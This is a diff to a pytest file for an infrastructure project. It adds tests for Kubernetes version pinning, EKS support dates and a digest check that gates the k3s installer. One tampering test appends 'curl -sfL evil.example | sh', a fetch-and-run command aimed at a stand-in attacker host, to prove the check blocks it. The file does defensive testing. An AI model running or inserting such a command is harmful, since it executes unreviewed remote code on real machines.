@@ -24,7 +24,7 @@ from test_infra_config import engine_config
 
 from infra.cluster_versions import AUTOSCALER_CHARTS, autoscaler_chart
 from infra.config import StackConfigError, parse
-from infra.versions import KUBERNETES_VERSIONS
+from infra.versions import K3S_VERSIONS, KUBERNETES_VERSIONS
 
 CHART = "kubernetes:helm.sh/v4:Chart"
 AWS_STACKS = [n for n in SHIPPED if n.startswith("aws-")]
@@ -517,17 +517,59 @@ def test_no_efa_output_without_efa(renders):
 # --- 9.13: kind node images by digest ------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("minor", KUBERNETES_VERSIONS)
-def test_kind_node_images_are_pinned_by_digest(minor):
-    from infra.cluster_versions import kind_node_image
-    from infra.versions import KIND_NODE_IMAGES
+# The day the shipped stacks' minor was last chosen (issue 9): every date below is read against it,
+# not against the clock, so the suite says the same thing every day.
+CHOSEN_ON = "2026-12-01"
 
+
+@pytest.mark.parametrize("minor", KUBERNETES_VERSIONS)
+def test_every_supported_minor_has_a_build_on_every_provider(minor):
+    """kind: a node image by digest; k3s: a release of that minor; EKS: still offered (not past extended support)."""
+    from infra.cluster_versions import EKS_STANDARD_SUPPORT_END, eks_extended_support_end, kind_node_image
+    from infra.versions import K3S_VERSIONS, KIND_NODE_IMAGES
+
+    assert re.fullmatch(rf"kindest/node:v{re.escape(minor)}\.\d+", KIND_NODE_IMAGES[minor])
     assert re.fullmatch(re.escape(KIND_NODE_IMAGES[minor]) + r"@sha256:[0-9a-f]{64}", kind_node_image(minor))
+    assert re.fullmatch(rf"v{re.escape(minor)}\.\d+\+k3s\d+", K3S_VERSIONS[minor])
+    assert minor in AUTOSCALER_CHARTS and minor in EKS_STANDARD_SUPPORT_END
+    # past the end of extended support EKS creates no cluster of that minor and upgrades the old ones
+    assert eks_extended_support_end(minor) > CHOSEN_ON, f"EKS stopped offering {minor} on {eks_extended_support_end(minor)}"
+
+
+def test_kind_digests_are_exactly_the_pinned_images():
+    # one kind release's image list (infra/cluster_versions.py names it): no stale digest left behind
+    from infra.cluster_versions import KIND_NODE_DIGESTS
+    from infra.versions import KIND_NODE_IMAGES, KUBERNETES_VERSIONS
+
+    assert set(KIND_NODE_IMAGES) == set(KUBERNETES_VERSIONS) and set(KIND_NODE_DIGESTS) == set(KIND_NODE_IMAGES.values())
+
+
+def test_eks_extended_support_is_twelve_months_after_standard():
+    # AWS EKS user guide, "Understand the Kubernetes version lifecycle on EKS": standard support
+    # for 14 months, then extended support "for the next 12 months"
+    from infra.cluster_versions import eks_extended_support_end
+
+    assert eks_extended_support_end("1.31") == "2026-11-26" and eks_extended_support_end("1.35") == "2028-03-27"
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_shipped_stacks_run_a_minor_in_eks_standard_support(name):
+    """The same minor on every stack (`alchemist stack diff`), and on EKS it is not on paid extended support."""
+    from infra.cluster_versions import EKS_STANDARD_SUPPORT_END, eks_support_warning
+
+    minor = stack_config(name)["alchemist:kubernetesVersion"]
+    assert minor in KUBERNETES_VERSIONS
+    assert EKS_STANDARD_SUPPORT_END[minor] > CHOSEN_ON and eks_support_warning(minor, CHOSEN_ON, KUBERNETES_VERSIONS) is None
+    assert {stack_config(n)["alchemist:kubernetesVersion"] for n in SHIPPED} == {minor}
 
 
 def test_dev_creates_kind_from_the_digest(renders):
+    from infra.cluster_versions import kind_node_image
+
     cmds = {c["name"]: c["inputs"] for c in resources(renders["dev"], "command:local:Command")}
-    assert re.search(r"--image kindest/node:v1\.31\.9@sha256:[0-9a-f]{64} ", cmds["cluster-kind"]["create"])
+    image = kind_node_image(stack_config("dev")["alchemist:kubernetesVersion"])
+    assert re.fullmatch(r"kindest/node:v1\.\d+\.\d+@sha256:[0-9a-f]{64}", image)
+    assert f"--image {image} " in cmds["cluster-kind"]["create"]
 
 
 # --- the cluster layer's charts: values keys exist, hooks only where a Release runs them ------------------
@@ -604,9 +646,9 @@ def test_joining_node_writes_registries_yaml_and_token_from_stdin(tmp_path):
     from infra.cluster_onprem import TOKEN_FILE, agent_script, registries_yaml
     from infra.config import OnpremHost
 
-    script = agent_script("v1.31.9+k3s1", OnpremHost(name="a", address="10.0.0.2", role="agent"), "10.0.0.1",
-                          registries=True)  # fmt: skip
-    setup = script[: script.index("curl -sfL")] + "true"  # everything up to the k3s installer
+    script = agent_script("v1.35.0+k3s1", OnpremHost(name="a", address="10.0.0.2", role="agent"), "10.0.0.1",
+                          registries=True, installer_sha256="ab" * 32)  # fmt: skip
+    setup = script[: script.index('INSTALLER="$(mktemp)"')] + "true"  # everything up to the k3s installer
     setup = setup.replace("sudo ", "").replace("/etc/rancher/k3s", str(tmp_path / "k3s"))
     registries = registries_yaml("registry.lab:5000/alchemist", "ci", "pw", insecure=False)
     stdin = base64.b64encode(registries.encode()).decode() + "\n" + "K10secret::server:token"
@@ -616,3 +658,71 @@ def test_joining_node_writes_registries_yaml_and_token_from_stdin(tmp_path):
     assert written.read_text() == registries and token.read_text() == "K10secret::server:token"
     assert stat.S_IMODE(written.stat().st_mode) == stat.S_IMODE(token.stat().st_mode) == 0o600
     assert stat.S_IMODE((tmp_path / "k3s").stat().st_mode) == 0o700
+
+
+# --- 17.9: the k3s installer runs only when its digest is the one the deployer reviewed -------------------
+
+def test_shipped_onprem_stack_leaves_the_installer_digest_to_the_deployer():
+    """The digest is the deployer's statement that they read this release's install.sh: the shipped
+    stack cannot make it for them, and without it preview stops at one line that says how."""
+    assert "k3sInstallerSha256" not in stack_config("onprem-lab")["alchemist:onprem"]
+    with pytest.raises(StackConfigError) as e:
+        parse(engine_config("onprem-lab", {"alchemist:onprem.k3sInstallerSha256": None}),
+              where="stacks/Pulumi.onprem-lab.yaml")
+    line = str(e.value)
+    minor = stack_config("onprem-lab")["alchemist:kubernetesVersion"]
+    url = f"https://raw.githubusercontent.com/k3s-io/k3s/{K3S_VERSIONS[minor].replace('+', '%2B')}/install.sh"
+    assert line.startswith("stacks/Pulumi.onprem-lab.yaml: alchemist:onprem.k3sInstallerSha256 is missing; ")
+    assert f"curl -sfL {url} | sha256sum" in line and "\n" not in line
+    with pytest.raises(StackConfigError) as e:
+        parse(engine_config("onprem-lab", {"alchemist:onprem.k3sInstallerSha256": "AB" * 32}))
+    assert str(e.value).startswith("alchemist:onprem.k3sInstallerSha256 = 'ABAB")
+
+
+def _stub_bin(tmp_path, installer_text: str):
+    """`curl` that serves `installer_text` for any URL and `sudo` that runs its command as is."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir(parents=True)
+    served = tmp_path / "served.sh"
+    served.write_text(installer_text)
+    (bin_dir / "curl").write_text('#!/bin/sh\nwhile [ "$1" != "-o" ]; do shift; done\n'
+                                  f'cp {served} "$2"\n')  # fmt: skip
+    (bin_dir / "sudo").write_text('#!/bin/sh\nexec env "$@"\n')
+    for f in bin_dir.iterdir():
+        f.chmod(0o755)
+    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}
+
+
+@pytest.mark.parametrize("role", ["server", "agent"])
+def test_the_installer_runs_only_when_its_digest_matches(tmp_path, role):
+    """Run the node's real install command with `curl` serving a script: the reviewed script runs
+    with the k3s flags; any other bytes stop the command before they run, in one line."""
+    import hashlib
+
+    from infra.cluster_onprem import agent_script, server_script
+    from infra.config import OnpremHost
+
+    ran = tmp_path / "ran"
+    installer = f'#!/bin/sh\necho "$INSTALL_K3S_VERSION $*" > {ran}\n'
+    reviewed = hashlib.sha256(installer.encode()).hexdigest()
+    host = OnpremHost(name="n1", address="10.0.0.2", role=role)
+
+    def script(digest: str) -> str:
+        if role == "server":
+            text = server_script("v1.35.0+k3s1", host, "10.0.0.1", first=True, ha=False, installer_sha256=digest)
+        else:
+            text = agent_script("v1.35.0+k3s1", host, "10.0.0.1", installer_sha256=digest)
+        return text.replace("/etc/rancher/k3s", str(tmp_path / "k3s"))
+
+    ok = subprocess.run(["sh", "-c", script(reviewed)], env=_stub_bin(tmp_path / "good", installer),
+                        input="token", capture_output=True, text=True)  # fmt: skip
+    assert ok.returncode == 0, ok.stderr
+    assert ran.read_text().startswith(f"v1.35.0+k3s1 {'server' if role == 'server' else 'agent'} ")
+    ran.unlink()
+    tampered = _stub_bin(tmp_path / "bad", installer + "curl -sfL evil.example | sh\n")
+    bad = subprocess.run(["sh", "-c", script(reviewed)], env=tampered, input="token", capture_output=True,
+                         text=True)  # fmt: skip
+    assert bad.returncode != 0 and not ran.exists()
+    lines = bad.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("k3s install.sh of v1.35.0+k3s1 does not match "
+                                                   "alchemist:onprem.k3sInstallerSha256"), bad.stderr  # fmt: skip
